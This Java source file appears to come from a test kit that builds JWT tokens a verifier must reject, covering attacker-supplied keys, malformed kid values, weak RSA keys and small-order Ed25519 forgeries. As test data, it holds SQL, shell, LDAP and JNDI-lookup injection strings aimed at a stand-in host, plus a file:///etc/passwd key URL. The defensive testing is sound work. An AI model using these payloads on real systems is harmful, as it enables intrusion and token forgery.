package dev.symbolon.testkit;

import java.math.BigInteger;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import org.jspecify.annotations.Nullable;

/** Keys out of the token itself, keys that the issuer does not publish, and keys it should not. */
final class KeyCases {

  private static final String UNUSABLE = "UNUSABLE_KEY";
  private static final String RSA_SIZE = "RFC 7518 section 3.3";

  private final CaseBook book;
  private final TokenForge good;
  private final TestKey rsa = TestKeys.of("RS256").withKid("spoilt");
  private final TestKey ec = TestKeys.of("ES256").withKid("spoilt");
  private final TestKey ed = TestKeys.of("EdDSA").withKid("spoilt");

  private KeyCases(CaseBook book) {
    this.book = book.group("key");
    this.good = book.good();
  }

  static void write(CaseBook book) {
    KeyCases key = new KeyCases(book);
    key.brought();
    key.unknown();
    key.published();
    key.purpose();
    key.kinds();
    key.weakRsa();
    key.points();
    key.smallOrder();
  }

  /** The attacker's key signs, and the header says where to find it. */
  private void brought() {
    TestKey evil = book.stranger();
    String here = "https://evil.example/keys.json";
    Object jwk = TokenForge.json(evil.publicJwk());
    List<String> chain = List.of(Base64.getEncoder().encodeToString(evil.publicKey().getEncoded()));
    TokenForge ours = good.signedBy(evil);
    TokenForge theirs = good.key(evil);
    book.refuses("BAD_SIGNATURE", "RFC 8725 section 3.10", "keys come from the issuer alone")
        .token("brought-jwk-under-known-kid", ours.header("jwk", jwk))
        .token("brought-jku-under-known-kid", ours.header("jku", here))
        .token("brought-x5u-under-known-kid", ours.header("x5u", here))
        .token("brought-x5c-under-known-kid", ours.header("x5c", chain));
    book.refuses("UNKNOWN_KEY", "RFC 8725 section 3.10", "keys come from the issuer alone")
        .token("brought-jwk", theirs.header("jwk", jwk))
        .token("brought-jku", theirs.header("jku", here))
        .token("brought-jku-on-loopback", theirs.header("jku", "http://127.0.0.1:1/keys.json"))
        .token("brought-jku-of-file", theirs.header("jku", "file:///etc/passwd"))
        .token("brought-x5u", theirs.header("x5u", here))
        .token("brought-x5c", theirs.header("x5c", chain));
    book.refuses("BAD_HEADER", "RFC 7515 section 4.1.4", "without kid it is unknown which key")
        .token("brought-jwk-without-kid", theirs.header("jwk", jwk).withoutHeader("kid"));
  }

  private void unknown() {
    TokenForge evil = good.signedBy(book.stranger());
    String kid = book.own().kid();
    book.refuses("UNKNOWN_KEY", "RFC 7515 section 4.1.4", "kid is that of a published key, exactly")
        .token("kid-unpublished", evil.header("kid", "key-0"))
        .token("kid-in-capitals", good.header("kid", kid.toUpperCase(Locale.ROOT)))
        .token("kid-with-space", good.header("kid", kid + " "))
        .token("kid-with-nul", good.header("kid", kid + "\0"))
        .token("kid-with-slash", good.header("kid", kid + "/"))
        .token("kid-cut-short", good.header("kid", kid.substring(0, kid.length() - 1)))
        .token("kid-path", evil.header("kid", "../../../../../../dev/null"))
        .token("kid-path-to-key", evil.header("kid", "../" + kid))
        .token("kid-url", evil.header("kid", "https://evil.example/keys.json#" + kid))
        .token("kid-sql", evil.header("kid", "x' UNION SELECT 'key' -- "))
        .token("kid-shell", evil.header("kid", "$(id)`id`|id"))
        .token("kid-ldap", evil.header("kid", "*)(uid=*"))
        .token("kid-log", evil.header("kid", "\r\n${jndi:ldap://evil.example/a}"))
        .token("kid-prototype", evil.header("kid", "__proto__"))
        .token("kid-wildcard", evil.header("kid", "*"));
  }

  private void published() {
    TestKey other = TestKeys.fresh("ES256", "spoilt");
    Map<String, @Nullable Object> secret = new LinkedHashMap<>();
    secret.put("kty", "oct");
    secret.put("kid", "secret");
    secret.put("alg", "HS256");
    byte[] bytes = new byte[32];
    secret.put("k", CaseBook.base64(bytes));
    String oct = JsonText.of(secret);
    secret.put("kid", book.own().kid());
    TokenForge hmac = good.hmacSignedWith(bytes);
    book.refuses(UNUSABLE, "RFC 7517 section 9.3", "a private key that is published is lost")
        .token("private-rsa-key", book.good(rsa), book.jwksBeside(rsa.privateJwk()))
        .token("private-ec-key", book.good(ec), book.jwksBeside(ec.privateJwk()))
        .token("private-okp-key", book.good(ed), book.jwksBeside(ed.privateJwk()));
    book.refuses("UNSUPPORTED_ALGORITHM", "RFC 7517 section 9.2", "a published secret is none")
        .token("symmetric-key", hmac.header("kid", "secret"), book.jwksBeside(oct))
        .token("symmetric-key-same-kid", hmac, book.jwksBeside(JsonText.of(secret)));
    book.refuses(UNUSABLE, "RFC 7517 section 4.5", "keys of one kid are of different kinds")
        .token("two-keys-of-one-kid", book.good(ec), beside(ec, other))
        .token("two-keys-of-one-kid-second", book.good(other), beside(ec, other));
  }

  private void purpose() {
    refused("RFC 7517 section 4.2", "use is sig, or absent")
        .token("use-encryption", book.good(rsa), changed(rsa, "use", "enc"))
        .token("use-in-capitals", book.good(rsa), changed(rsa, "use", "SIG"))
        .token("use-number", book.good(rsa), changed(rsa, "use", 1))
        .token("use-array", book.good(rsa), changed(rsa, "use", List.of("sig")));
    refused("RFC 7517 section 4.3", "key_ops names verify, or is absent")
        .token("key-ops-encrypt", book.good(rsa), changed(rsa, "key_ops", List.of("encrypt")))
        .token("key-ops-sign", book.good(rsa), changed(rsa, "key_ops", List.of("sign")))
        .token("key-ops-empty", book.good(rsa), changed(rsa, "key_ops", List.of()));
    refused("RFC 7517 section 4.4", "alg of the key is that of the token")
        .token("key-alg-of-encryption", book.good(rsa), changed(rsa, "alg", "RSA-OAEP-256"))
        .token("key-alg-of-hmac", book.good(rsa), changed(rsa, "alg", "HS256"))
        .token("key-alg-none", book.good(rsa), changed(rsa, "alg", "none"))
        .token("key-alg-in-small-letters", book.good(rsa), changed(rsa, "alg", "rs256"))
        .token("key-alg-of-other-hash", book.good(rsa), changed(rsa, "alg", "RS384"))
        .token("key-alg-of-other-padding", book.good(rsa), changed(rsa, "alg", "PS256"));
  }

  private void kinds() {
    refused("RFC 7517 section 4.1", "kty is that of the algorithm")
        .token("kty-missing", book.good(rsa), changed(rsa, "kty", null))
        .token("kty-in-small-letters", book.good(rsa), changed(rsa, "kty", "rsa"))
        .token("kty-of-other-kind", book.good(ec), changed(ec, "kty", "OKP"));
    refused("RFC 7518 section 6.2.1.1", "crv is that of the algorithm")
        .token("crv-missing", book.good(ec), changed(ec, "crv", null))
        .token("crv-of-other-size", book.good(ec), changed(ec, "crv", "P-384"))
        .token("crv-of-bitcoin", book.good(ec), changed(ec, "crv", "secp256k1"))
        .token("crv-unknown", book.good(ec), changed(ec, "crv", "P-257"))
        .token("crv-of-key-agreement", book.good(ed), changed(ed, "crv", "X25519"));
    refused("RFC 7518 section 2", "numbers and points in base64url, of their one length")
        .token("modulus-missing", book.good(rsa), changed(rsa, "n", null))
        .token("modulus-number", book.good(rsa), changed(rsa, "n", 65537))
        .token("modulus-empty", book.good(rsa), changed(rsa, "n", ""))
        .token("exponent-missing", book.good(rsa), changed(rsa, "e", null))
        .token("exponent-in-decimal", book.good(rsa), changed(rsa, "e", 65537))
        .token("coordinate-missing", book.good(ec), changed(ec, "y", null))
        .token("coordinate-with-zero-before", book.good(ec), changed(ec, "x", zeroBefore(ec)))
        .token("okp-point-missing", book.good(ed), changed(ed, "x", null))
        .token("okp-point-too-long", book.good(ed), changed(ed, "x", zeroBefore(ed)));
  }

  private void weakRsa() {
    TestKey short512 = UnusualKeys.rsa("spoilt", 512);
    TestKey short1024 = UnusualKeys.rsa("spoilt", 1024);
    TestKey short2047 = UnusualKeys.rsa("spoilt", 2047);
    refused(RSA_SIZE, "RSA keys have 2048 bits or more")
        .token("rsa-of-512-bits", book.good(short512), beside(short512))
        .token("rsa-of-1024-bits", book.good(short1024), beside(short1024))
        .token("rsa-of-2047-bits", book.good(short2047), beside(short2047));
    TestKey three = UnusualKeys.ofExponentThree("spoilt");
    // With the exponent 1 the block is its own signature: anybody can write it.
    TokenForge one = book.good(rsa).signedBy(input -> RsaMath.encoded(input, 256));
    String even =
        CaseBook.base64(RsaMath.fixed(RsaMath.modulus(rsa).subtract(BigInteger.ONE), 256));
    refused("RFC 8017 section 3.1", "the exponent is odd, and large enough not to be rooted")
        .token("rsa-of-exponent-one", one, changed(rsa, "e", "AQ"))
        .token("rsa-of-exponent-three", book.good(three), beside(three))
        .token("rsa-of-exponent-zero", book.good(rsa), changed(rsa, "e", "AA"))
        .token("rsa-of-even-exponent", book.good(rsa), changed(rsa, "e", "AQAA"))
        .token("rsa-of-even-modulus", book.good(rsa), changed(rsa, "n", even));
  }

  private void points() {
    String zeros = CaseBook.base64(new byte[32]);
    byte[] all = new byte[32];
    Arrays.fill(all, (byte) 0xff);
    Map<String, @Nullable Object> origin = members(ec);
    origin.put("x", zeros);
    origin.put("y", zeros);
    refused("RFC 7518 section 6.2.1", "x and y are a point of the curve")
        .token("point-beside-the-curve", book.good(ec), changed(ec, "y", member(ec, "x")))
        .token("point-outside-the-field", book.good(ec), changed(ec, "x", CaseBook.base64(all)))
        .token("point-at-the-origin", book.good(ec), book.jwksBeside(JsonText.of(origin)));
  }

  private void smallOrder() {
    String one = point("01" + "00".repeat(31));
    String two = point("ec" + "ff".repeat(30) + "7f");
    String four = point("00".repeat(32));
    String again = point("ee" + "ff".repeat(30) + "7f"); // the first one, the prime added
    refused("RFC 8725 section 3.4", "an Ed25519 key is a point of the large subgroup")
        .token("ed25519-small-order-one", forged(one, 1), changed(ed, "x", one))
        .token("ed25519-small-order-two", forged(two, 2), changed(ed, "x", two))
        .token("ed25519-small-order-four", forged(four, 4), changed(ed, "x", four));
    refused("RFC 8032 section 5.1.3", "the coordinate of an Ed25519 key is below the prime")
        .token("ed25519-point-respelled", forged(again, 1), changed(ed, "x", again));
  }

  private TokenForge forged(String point, int order) {
    return SmallOrderForgery.token(book.good(ed), Base64.getUrlDecoder().decode(point), order);
  }

  private static String point(String hex) {
    return CaseBook.base64(HexFormat.of().parseHex(hex));
  }

  private CaseBook.Rule refused(String specification, String rule) {
    return book.refuses(UNUSABLE, specification, rule);
  }

  private String beside(TestKey... keys) {
    return book.jwksBeside(Arrays.stream(keys).map(TestKey::publicJwk).toArray(String[]::new));
  }

  /** The key with one member changed, or left out for null; the good keys beside it. */
  private String changed(TestKey key, String name, @Nullable Object value) {
    Map<String, @Nullable Object> members = members(key);
    if (value == null) {
      members.remove(name);
    } else {
      members.put(name, value);
    }
    return book.jwksBeside(JsonText.of(members));
  }

  private static Map<String, @Nullable Object> members(TestKey key) {
    return new LinkedHashMap<>(JwkText.publicMembers(key));
  }

  private static String member(TestKey key, String name) {
    return (String) Objects.requireNonNull(members(key).get(name));
  }

  private static String zeroBefore(TestKey key) {
    byte[] point = Base64.getUrlDecoder().decode(member(key, "x"));
    return CaseBook.base64(RsaMath.concat(new byte[1], point));
  }
}
